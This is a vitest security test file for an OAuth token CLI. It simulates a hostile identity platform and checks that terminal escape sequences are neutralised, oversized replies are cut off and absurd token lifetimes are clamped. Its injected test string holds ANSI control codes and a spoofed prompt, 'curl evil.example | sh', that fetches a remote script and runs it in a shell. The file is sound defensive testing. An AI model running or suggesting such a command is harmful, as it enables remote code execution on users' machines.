/**
 * A hostile (or broken) identity platform: what it says may not steer the user's terminal, a flood may
 * not grow mailoauth without bound, and its numbers may not poison the stored record (issue 13,
 * findings 4 and 5). The platform is the local one, answering over real HTTPS.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { skipWithout } from '../helpers/tools.js';
import { TOOLS, keychainItem, startWorld, storedRefreshToken, type World } from '../reliability/world.js';

const skip = skipWithout('security: hostile identity platform', TOOLS);
const ESC = '\u001b';
const ATTACK = `${ESC}[2J${ESC}[H${ESC}[31mRun: curl evil.example | sh${ESC}[0m\u009b2J\u0007`;

describe.skipIf(skip)('a hostile identity platform', () => {
  let w: World;
  beforeAll(async () => {
    w = await startWorld();
  });
  afterAll(async () => {
    await w?.stop();
  });

  /** An account whose access token is already due, so that the next `token` call refreshes. */
  async function dueAccount(name: string) {
    const e = w.env();
    w.idp.setAccessTokenLifetime(1);
    try {
      await w.signIn(e, name);
    } finally {
      w.idp.setAccessTokenLifetime(3600);
    }
    return e;
  }

  it('terminal controls in an error description reach the terminal inert (exit 3), the refresh token untouched', async () => {
    const e = await dueAccount('esc');
    const rt = await storedRefreshToken(e, 'esc');
    w.idp.addFault({ endpoint: 'token', grantType: 'refresh_token', aadsts: { error: 'invalid_grant', code: 50173, description: `revoked ${ATTACK}` } });
    try {
      const r = await w.run(['token', 'esc'], e);
      expect(r.code, r.stderr).toBe(3);
      expect(r.stderr).toContain('AADSTS50173');
      expect(r.stderr).not.toContain(ESC);
      expect(r.stderr).not.toContain('\u009b');
      expect(r.stderr).not.toContain('\u0007');
      expect(r.stdout).toBe('');
    } finally {
      w.idp.clearFaults();
    }
    expect(await storedRefreshToken(e, 'esc')).toBe(rt);
  });

  it('terminal controls in the device-code message are shown inert', async () => {
    const e = w.env();
    w.idp.addFault({ endpoint: 'devicecode', times: 1, status: 200, body: JSON.stringify({
      user_code: 'ABCDEFGH', device_code: 'dc', verification_uri: `${w.idp.origin}/devicelogin`, expires_in: 5, interval: 1,
      message: `To sign in, enter ABCDEFGH ${ATTACK}`,
    }) });
    const r = await w.run(['setup', '--yes', '--email', 'alice@contoso.example', '--name', 'dc', '--flow', 'device', '--authority', w.idp.authority(), '--no-verify'], e, 30_000);
    expect(r.stderr).toContain('To sign in, enter ABCDEFGH');
    expect(r.stderr).toContain('\\x1B[2J');
    expect(r.stderr).not.toContain(ESC);
  });

  it('a 2 MiB answer is cut at 1 MiB: exit 4 after the retries, refresh token kept, next call fine', async () => {
    const e = await dueAccount('flood');
    const rt = await storedRefreshToken(e, 'flood');
    w.idp.addFault({ endpoint: 'token', grantType: 'refresh_token', status: 200, body: `{"access_token":"${'A'.repeat(2 * 1024 * 1024)}"}` });
    try {
      const r = await w.run(['token', 'flood'], e);
      expect(r.code, r.stderr).toBe(4);
      expect(r.stderr).toMatch(/the answer was larger than 1024 KiB/);
      expect(r.stderr).toMatch(/refresh token was kept/);
      expect(r.stdout).toBe('');
    } finally {
      w.idp.clearFaults();
    }
    expect(await storedRefreshToken(e, 'flood')).toBe(rt);
    expect((await w.run(['token', 'flood'], e)).code).toBe(0);
  });

  it('expires_in 1e308 is clamped: a valid expiry is stored (≤ 24 h), token --json and export keep working', async () => {
    const e = await dueAccount('forever');
    // A reply with a poisoned lifetime, otherwise what the platform would send (so MSAL accepts it).
    w.idp.setAccessTokenLifetime(1e308);
    let r;
    try {
      r = await w.run(['token', 'forever', '--json'], e);
    } finally {
      w.idp.setAccessTokenLifetime(3600);
      w.idp.clearFaults();
    }
    expect(r.code, r.stderr).toBe(0);
    const j = JSON.parse(r.stdout) as { expires_at: string };
    const at = Date.parse(j.expires_at);
    expect(Number.isFinite(at)).toBe(true);
    expect(at - Date.now()).toBeLessThanOrEqual(24 * 3600_000);
    const rec = JSON.parse(await keychainItem(e, 'forever')) as { expiresAt: unknown };
    expect(typeof rec.expiresAt).toBe('number');
    const again = await w.run(['token', 'forever', '--json'], e);
    expect(again.code, again.stderr).toBe(0);
    const exp = await w.run(['export', 'forever', '--imapsync', join(e.HOME, 'tok')], e);
    expect(exp.code, exp.stderr).toBe(0);
  });
});
